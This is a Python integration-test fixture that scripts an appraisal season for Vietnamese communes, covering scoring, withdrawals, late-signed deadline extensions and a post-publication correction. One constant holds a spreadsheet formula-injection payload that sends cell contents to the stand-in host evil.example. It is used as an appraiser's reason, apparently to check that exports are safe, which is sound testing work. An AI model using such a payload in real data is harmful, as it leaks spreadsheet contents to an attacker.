"""A season an observer would want to oversee (issue 9): one commune appraised,
asked to explain, re-appraised in round 2, closed, published and corrected after
an inspection signed past the appraisal deadline; another that submits and
withdraws; two deadline extensions, one signed after the deadline it moves.

`play(env)` plays it on any deployment (the integration tests' `Env`, the HTTP
world's) and returns the keys and times the tests assert on.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

from tests.season_unit import Unit, at, deadline_text, whole_seconds_from_now
from tests.support import Env, Key, command

U, OTHER = "xa-a", "xa-b"
# What a hostile appraiser could type as a reason: a formula, line breaks, quotes.
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")\n"trích dẫn", dòng 2'


@dataclass
class Played:
    cycle: str
    unit: Unit
    other: Unit
    approver: Key
    start: datetime  # the deadlines are counted from here
    due: dict[str, str]


def play(env: Env, cycle: str = "c") -> Played:
    start = whole_seconds_from_now(0)
    due = {
        "self_assessment_due": deadline_text(start + timedelta(seconds=120)),
        "explanation_due": deadline_text(start + timedelta(seconds=240)),
        "appraisal_due": deadline_text(start + timedelta(seconds=300)),
    }
    u = Unit.open(env, cycle=cycle, unit=U, rounds=2, deadlines=due)
    other = Unit(
        env,
        officer=env.register("commune_officer", f"commune:{OTHER}", name="Lê Thị Bình")[0],
        chair=env.register("commune_chair", f"commune:{OTHER}", name="Trần Văn Chủ")[0],
        appraiser=u.appraiser,
        council=u.council,
        cycle=cycle,
        unit=OTHER,
    )
    approver = env.register("approver", "province:thai-nguyen", name="Phạm Phê Duyệt")[0]

    u.score("1.1.1", "1")
    u.score("1.1.2", "1")
    u.score("1.2.1", "0.25")
    u.submit()
    other.submit()
    other.send(other.chair, "withdraw_submission", reason="Bổ sung hồ sơ")

    def extend(unit: str, kind: str, until: datetime, signed_at: datetime | None = None) -> None:
        fields = {"cycle": cycle, "deadline": kind, "until": deadline_text(until), "unit": unit}
        if signed_at is not None:
            fields["issued_at"] = at(signed_at)
        env.send(command(env.admin, "extend_deadline", reason="Lũ lụt", **fields))

    extend(U, "explanation_due", start + timedelta(seconds=270))
    # signed after the self-assessment deadline it moves (which had passed)
    extend(
        OTHER, "self_assessment_due", start + timedelta(seconds=200), start + timedelta(seconds=150)
    )

    u.adjust("1.1.1", "0.25", reason=HOSTILE)  # -0.75 of 1: a large deduction
    u.confirm("1.1.2", note="Đúng hồ sơ")
    u.flag("1.2.1", question="Đề nghị bổ sung kế hoạch?")
    u.answer("1.2.1", answer="Đã bổ sung kế hoạch.", points="0.5")  # +0.25, self input
    u.submit_explanations()
    u.adjust("1.2.1", "0.375", reason="Giải trình chưa đủ")  # round 2: -0.125 of 0.5
    u.close(confirm=u.unreviewed())
    env.season_end(cycle, u.council, approver)
    u.send(
        u.appraiser,
        "attach_evidence",
        evidence_id="ev-tt-01",
        leaves=["1.1.2"],
        file=None,
        document={"number": "02/KL-TTr"},
        description=None,
    )
    u.send(  # after publication, signed 20 s past the appraisal deadline
        u.appraiser,
        "correct_score",
        leaf="1.1.2",
        points="0",
        reason="Thanh tra phát hiện sai sót",
        evidence_ids=["ev-tt-01"],
        issued_at=at(start + timedelta(seconds=320)),
    )
    return Played(cycle, u, other, approver, start, due)
